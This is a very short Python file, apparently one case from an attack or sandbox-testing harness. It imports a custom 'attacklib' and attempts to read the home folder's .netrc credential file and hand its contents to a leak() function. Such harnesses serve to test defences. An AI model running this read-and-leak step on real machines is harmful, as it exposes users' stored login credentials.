"""secrets: read the home folder's .netrc."""

import os

from attacklib import *

attempt("home netrc", lambda: leak(open(os.path.join(HOME, ".netrc")).read()))
